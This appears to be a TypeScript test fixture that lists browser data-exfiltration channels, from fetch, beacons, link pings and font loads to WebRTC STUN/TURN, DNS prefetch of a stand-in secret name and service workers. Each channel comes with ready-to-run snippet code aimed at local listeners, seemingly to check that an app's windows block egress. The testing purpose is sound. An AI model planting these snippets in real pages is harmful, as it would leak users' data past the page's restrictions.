/**
 * How a script might get something out of a page: each is a piece of script, run in the page. The waits are how long an
 * attempt may take that tells nobody when it is over; what comes of it is heard by the listeners or not at all.
 */

export const NAME_TO_LOOK_UP = 'a-secret.example.com';

export interface WayOut {
  readonly name: string;
  /** From a window without any rules the listeners hear it: the attempt as such is right. */
  readonly heardWhenFree: boolean;
  /** The body of an async function of `http` (an address), `host`, `tcp`, `udp`, `later` and `link`. */
  readonly script: string;
}

const ways = (heardWhenFree: boolean, scripts: Readonly<Record<string, string>>): readonly WayOut[] =>
  Object.entries(scripts).map(([name, script]) => ({ name, heardWhenFree, script }));

const rtc = (urls: string): string => `
  const server = '${urls}'.startsWith('turn') ? { urls: '${urls}', username: 'out', credential: 'out' } : { urls: '${urls}' };
  const connection = new RTCPeerConnection({ iceServers: [server.urls ? { ...server, urls: server.urls.replace('TCP', tcp).replace('UDP', udp) } : server] });
  connection.createDataChannel('out');
  const gathered = new Promise((resolve) => {
    connection.onicegatheringstatechange = () => { if (connection.iceGatheringState === 'complete') resolve(); };
  });
  await connection.setLocalDescription(await connection.createOffer());
  await Promise.race([gathered, later(3000)]);
  connection.close();`;

export const WAYS_OUT: readonly WayOut[] = [
  ...ways(true, {
    fetch: `await fetch(http, { mode: 'no-cors' });`,
    XMLHttpRequest: `const request = new XMLHttpRequest(); request.open('GET', http);
      await new Promise((resolve) => { request.onloadend = resolve; request.send(); });`,
    WebSocket: `const socket = new WebSocket('ws://' + host); await new Promise((resolve) => { socket.onclose = resolve; });`,
    'an image': `const image = new Image(); await new Promise((resolve) => { image.onload = image.onerror = resolve; image.src = http; });`,
    'an image of a style': `const sheet = new CSSStyleSheet(); sheet.replaceSync('body { background: url(' + http + ') }');
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]; await later(400);`,
    'a style sheet': `await link('stylesheet');`,
    'a font': `await new FontFace('out', 'url(' + http + ')').load();`,
    'a sound': `const sound = new Audio(); await new Promise((resolve) => { sound.onerror = resolve; sound.src = http; });`,
    'a beacon': `navigator.sendBeacon(http, 'out'); await later(400);`,
    prefetch: `await link('prefetch');`,
    preload: `await link('preload', 'image');`,
    'a worker': `new Worker(http); await later(400);`,
    EventSource: `const source = new EventSource(http); await new Promise((resolve) => { source.onerror = resolve; }); source.close();`,
    'a download': `const out = document.createElement('a'); out.href = http; out.download = 'out'; document.body.append(out); out.click(); await later(400);`,
    'the ping of a link': `const out = document.createElement('a'); out.href = '#here'; out.ping = http; document.body.append(out); out.click(); await later(400);
      history.replaceState(null, '', location.pathname);`,
    'STUN over UDP': rtc('stun:127.0.0.1:UDP'),
    'TURN over UDP': rtc('turn:127.0.0.1:UDP?transport=udp'),
    'TURN over TCP': rtc('turn:127.0.0.1:TCP?transport=tcp'),
    'TURN over TLS': rtc('turns:127.0.0.1:TCP?transport=tcp'),
    'a name in STUN': rtc('stun:${NAME_TO_LOOK_UP}:3478').replaceAll('${NAME_TO_LOOK_UP}', NAME_TO_LOOK_UP),
  }),
  // What the app refuses for every window that it makes, the free one included, or Chromium for what is not served over TLS.
  ...ways(false, {
    'looking up a name': `const hint = document.createElement('link'); hint.rel = 'dns-prefetch'; hint.href = '//${NAME_TO_LOOK_UP}';
      document.head.append(hint); await later(600);`,
    preconnect: `await link('preconnect');`,
    'connecting to a name': `const hint = document.createElement('link'); hint.rel = 'preconnect'; hint.href = 'https://${NAME_TO_LOOK_UP}';
      document.head.append(hint); await later(600);`,
    'a frame': `const frame = document.createElement('iframe'); frame.src = http; document.body.append(frame); await later(400); frame.remove();`,
    'an object': `const object = document.createElement('object'); object.data = http; document.body.append(object); await later(400); object.remove();`,
    WebTransport: `const transport = new WebTransport('https://127.0.0.1:' + udp + '/out');
      await Promise.race([transport.ready, transport.closed, later(1500)]);`,
    'a form': `const form = document.createElement('form'); form.action = http; form.method = 'post'; document.body.append(form); form.submit(); await later(400); form.remove();`,
    navigation: `location.href = http; await later(400);`,
    'window.open': `window.open(http); await later(400);`,
    modulepreload: `await link('modulepreload');`,
    'an icon': `await link('icon');`,
    'a manifest': `await link('manifest');`,
    prerender: `await link('prerender');`,
    'speculation rules': `const rules = document.createElement('script'); rules.type = 'speculationrules';
      rules.textContent = JSON.stringify({ prefetch: [{ urls: [http] }] }); document.head.append(rules); await later(400);`,
    'a script from elsewhere': `await import(http);`,
    'a shared worker': `new SharedWorker(http); await later(400);`,
    'a service worker': `await navigator.serviceWorker.register(http);`,
  }),
];

/** The attempt as an expression; back when it is over, refused or not. */
export function sourceOf({ script }: WayOut, tcp: number, udp: number): string {
  return `(async () => {
    const tcp = ${String(tcp)}, udp = ${String(udp)}, host = '127.0.0.1:' + tcp, http = 'http://' + host + '/a-secret';
    const later = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
    const link = async (rel, as) => {
      const element = document.createElement('link');
      element.rel = rel;
      if (as) element.as = as;
      element.href = http;
      const over = new Promise((resolve) => { element.onload = element.onerror = resolve; });
      document.head.append(element);
      await Promise.race([over, later(400)]);
    };
    const attempt = (async () => { ${script} })().catch(() => undefined);
    await Promise.race([attempt, later(5000)]);
    return null;
  })()`;
}
